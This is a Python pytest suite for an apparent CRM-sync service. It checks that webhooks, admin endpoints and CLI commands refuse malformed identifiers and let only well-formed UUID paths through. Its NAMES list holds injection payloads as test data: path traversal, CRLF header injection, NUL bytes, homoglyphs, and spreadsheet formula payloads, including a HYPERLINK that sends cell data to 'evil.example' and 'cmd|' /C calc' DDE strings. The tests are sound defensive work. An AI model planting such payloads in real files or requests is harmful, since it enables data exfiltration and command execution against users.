"""A trailing newline never slips through an identifier check ("$" matches before one)."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from flask.testing import FlaskClient

from consumer.devtools.sandbox import Sandbox
from consumer.errors import InvalidIdentifier
from consumer.mappings import sync
from consumer.models import check_external_id
from consumer.settings import Settings
from consumer.store.connection import Connections
from tests.helpers import context, drain, signed

RID = str(uuid.uuid4())


def test_a_payload_record_id_with_a_trailing_newline_is_422(
    client: FlaskClient, settings: Settings
) -> None:
    """A DELETE of '<uuid>%0A' would be a 404, recorded as already_deleted: refuse it."""
    body = json.dumps({"type": "user.deleted", "data": {"id": "u-1", "zeeg_id": RID + "\n"}})
    answer = client.post("/webhooks/std", data=body, headers=signed(settings, "std", body.encode()))
    assert answer.status_code == 422


def test_an_admin_mapping_path_with_a_newline_in_the_source_is_422(admin: FlaskClient) -> None:
    """The source becomes part of a Redis key: only the shape intake stores is taken."""
    answer = admin.get("/admin/mappings/userdb%0A/contacts/u-1")
    assert answer.status_code == 422


def test_a_sync_attribute_with_a_trailing_newline_is_refused(
    settings: Settings, conns: Connections
) -> None:
    """The attribute names a Redis key and a query parameter."""
    with pytest.raises(InvalidIdentifier):
        sync.reset(context(settings, conns), "userdb", "contacts", "email\n")


# Look-alikes: Cyrillic es and a, fullwidth digits; then traversal, encodings, CR/LF, NUL,
# a lone surrogate and 10,000 characters.
NAMES = [
    "../contacts",
    "..%2F..%2Fadmin",
    "contacts%2F..",
    "a%00b",
    "a\x00b",
    "a\r\nX-Injected: 1",
    "\u0441ontacts",
    "contacts/../../objects",
    "contacts?limit=1",
    "contacts#x",
    "x" * 10_000,
    "\ud800",
    "u-1\u2028x",
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]


def _bad_record_ids(rid: str) -> list[str]:
    """Record ids that look like rid but are not of the 8-4-4-4-12 shape."""
    return [
        rid + "/../x",
        "../" + rid,
        rid.replace("-", "%2D"),
        rid + "%00",
        rid + "\r\n",
        rid + "?x=1",
        rid.replace("a", "\u0430").replace("0", "\uff10")
        if "a" in rid or "0" in rid
        else rid + "\u0430",
        rid + "\ud800",
        rid[:8] + "/" + rid[9:],
        "1" * 10_000,
    ]


SAFE_PATH = re.compile(
    r"^/crm/(objects/)?(contacts|customers)"
    r"(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})?$"
)


def _only_safe_paths(sandbox: Sandbox) -> list[str]:
    """Every CRM path the sandbox saw; the test asserts each is a configured slug and id."""
    paths = [str(r["path"]) for r in sandbox.state.requests()]
    assert all(SAFE_PATH.fullmatch(p) for p in paths), [
        p for p in paths if not SAFE_PATH.fullmatch(p)
    ]
    return paths


def _opaque(names: list[str]) -> list[str]:
    """The names that are valid external ids (1-255 characters, no controls, encodable)."""
    valid = []
    for name in names:
        try:
            check_external_id(name).encode("utf-8")
        except (InvalidIdentifier, UnicodeEncodeError):
            continue
        valid.append(name)
    return valid


def _jsonl(row: dict[str, str]) -> str:
    """One JSON line, written raw (U+2028 as is) unless it holds a lone surrogate."""
    try:
        return json.dumps(row, ensure_ascii=False).encode("utf-8").decode() + "\n"
    except UnicodeEncodeError:
        return json.dumps(row) + "\n"


def _no_formulas(text: str) -> None:
    """No CSV cell a spreadsheet would run: none starts with = + - @ (or tab, CR)."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1, text[:200]  # the header and the erasures of the odd ids
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text[:500]


def _deleted(paths: list[str], rids: list[str]) -> set[str]:
    return {p.rsplit("/", 1)[1] for p in paths if p.rsplit("/", 1)[1] in rids}


def test_payload_identifier_attacks_reach_zeeg_only_as_valid_ids(
    client: FlaskClient, settings: Settings, conns: Connections, sandbox: Sandbox
) -> None:
    """External ids and payload:data.zeeg_id record ids from signed webhooks."""
    (rid,) = sandbox.state.seed("customers", [{}])
    bodies = [{"id": name, "zeeg_id": rid} for name in NAMES]
    bodies += [{"id": f"u-{i}", "zeeg_id": bad} for i, bad in enumerate(_bad_record_ids(rid))]
    bodies.append({"id": "u-good", "zeeg_id": rid.upper()})
    for n, data in enumerate(bodies):
        body = json.dumps({"type": "user.deleted", "data": data}).encode()
        answer = client.post(
            "/webhooks/std", data=body, headers=signed(settings, "std", body, f"msg_{n}")
        )
        assert answer.status_code < 500, (data, answer.get_json())
    drain(settings, conns)
    paths = _only_safe_paths(sandbox)
    assert _deleted(paths, [rid]) == {rid}  # the well-formed one (upper case) got through


def test_mapping_file_identifier_attacks_reach_zeeg_only_as_valid_ids(
    cli: Any, tmp: Path, settings: Settings, conns: Connections, sandbox: Sandbox
) -> None:
    """`mappings import` rows with odd objects, external ids and record ids, then erased."""
    rids = sandbox.state.seed("contacts", [{} for _ in NAMES])
    rows = [
        {"source": "userdb", "object": "contacts", "external_id": name, "record_id": rid}
        for name, rid in zip(NAMES, rids, strict=True)
    ]
    rows += [
        {"source": "userdb", "object": name, "external_id": "u-obj", "record_id": rids[0]}
        for name in NAMES
    ]
    rows += [
        {"source": "userdb", "object": "contacts", "external_id": "u-rid", "record_id": bad}
        for bad in _bad_record_ids(rids[0])
    ]
    rows += [
        {"source": name, "object": "contacts", "external_id": "u-src", "record_id": rids[0]}
        for name in NAMES
    ]
    path = tmp / "links.jsonl"
    path.write_text("".join(_jsonl(r) for r in rows), encoding="utf-8")
    result = cli("mappings", "import", "--json", str(path))
    assert result.exit_code == 1, result.output  # bad lines reported, the others linked
    # Every row with a well-formed external id is linked: none is lost to a line split.
    assert json.loads(result.stdout)["linked"] == len(_opaque(NAMES)), result.stdout[:300]
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit)
    for name in [*NAMES, "u-obj", "u-rid", "u-src"]:
        erased = cli("erase", "--source", "userdb", "--", name)
        assert erased.exit_code in (0, 1, 2), (name[:20], erased.output)
        assert erased.exception is None or isinstance(erased.exception, SystemExit), (
            erased.exception
        )
    drain(settings, conns)
    paths = _only_safe_paths(sandbox)
    assert len(_deleted(paths, rids)) == len(_opaque(NAMES))


def test_admin_identifier_attacks_reach_zeeg_only_as_valid_ids(
    admin: FlaskClient, settings: Settings, conns: Connections, sandbox: Sandbox
) -> None:
    """Mappings PUT and bulk POST with odd ids, then erase of odd external ids, over HTTP."""
    (rid,) = sandbox.state.seed("contacts", [{}])
    quoted = [quote(n.encode("utf-8", "surrogatepass"), safe="") for n in NAMES]
    for name in quoted:
        for path in (f"userdb/contacts/{name}", f"userdb/{name}/u-1", f"{name}/contacts/u-1"):
            answer = admin.put(f"/admin/mappings/{path}", json={"record_id": rid})
            assert answer.status_code < 500, (path[:60], answer.get_json())
    for bad in _bad_record_ids(rid):
        answer = admin.put("/admin/mappings/userdb/contacts/u-rid", json={"record_id": bad})
        assert answer.status_code == 422, (bad[:60], answer.get_json())
    lines = [
        {"source": "userdb", "object": name, "external_id": "u-bulk", "record_id": rid}
        for name in NAMES
    ]
    body = "".join(json.dumps(r) + "\n" for r in lines)
    answer = admin.post("/admin/mappings", data=body, content_type="application/x-ndjson")
    assert answer.status_code == 422, answer.get_json()
    rows = [
        {"source": "userdb", "object": "contacts", "external_id": name, "record_id": rid}
        for name in NAMES
    ]
    body = "".join(_jsonl(r) for r in rows)
    answer = admin.post("/admin/mappings", data=body.encode(), content_type="application/x-ndjson")
    assert answer.status_code == 200, answer.get_json()
    # Every row with a well-formed external id is linked: none is lost to a line split.
    report = answer.get_json()
    for name in [*NAMES, "u-rid", "u-bulk"]:
        answer = admin.post("/admin/erase", json={"source": "userdb", "external_id": name})
        assert answer.status_code < 500, (name[:20], answer.get_json())
    drain(settings, conns)
    paths = _only_safe_paths(sandbox)
    assert _deleted(paths, [rid]) == {rid}  # linked under the valid odd external ids
    _no_formulas(admin.get("/admin/audit?format=csv").get_data(as_text=True))
    # Last, so that the checks above run first: every well-formed row was linked (no line is
    # lost to a split on U+2028).
    assert report["linked"] + report["unchanged"] == len(_opaque(NAMES)), report


def test_cli_identifier_attacks_reach_zeeg_only_as_valid_ids(
    cli: Any, settings: Settings, conns: Connections, sandbox: Sandbox
) -> None:
    """`mappings set` and `erase` with odd arguments: refused or stored as opaque ids."""
    (rid,) = sandbox.state.seed("contacts", [{}])
    for name in NAMES:
        for args in (("userdb", "contacts", name, rid), ("userdb", name, "u-1", rid)):
            result = cli("mappings", "set", "--", *args)
            assert result.exception is None or isinstance(result.exception, SystemExit), args
    for bad in _bad_record_ids(rid):
        result = cli("mappings", "set", "--", "userdb", "contacts", "u-rid", bad)
        assert result.exit_code != 0, (bad[:40], result.output)
    for name in [*NAMES, "u-rid"]:
        result = cli("erase", "--source", "userdb", "--", name)
        assert result.exception is None or isinstance(result.exception, SystemExit), name[:20]
    drain(settings, conns)
    paths = _only_safe_paths(sandbox)
    assert _deleted(paths, [rid]) == {rid}


@pytest.mark.parametrize("command", ["mappings import", "erase --source userdb --csv"])
def test_an_operator_file_that_is_not_utf8_is_refused_without_a_traceback(
    cli: Any, tmp: Path, sandbox: Sandbox, command: str
) -> None:
    """An export with a stray Latin-1 byte or an encoded surrogate: a clear error, exit 1."""
    (rid,) = sandbox.state.seed("contacts", [{}])
    good = {"source": "userdb", "object": "contacts", "external_id": "u-1", "record_id": rid}
    path = tmp / "file.txt"
    first = json.dumps(good) if command.startswith("mappings") else "external_id\nu-1"
    path.write_bytes(first.encode() + b"\n" + b'{"external_id": "M\xfcller \xed\xa0\x80"}\n')
    result = cli(*command.split(), str(path))
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
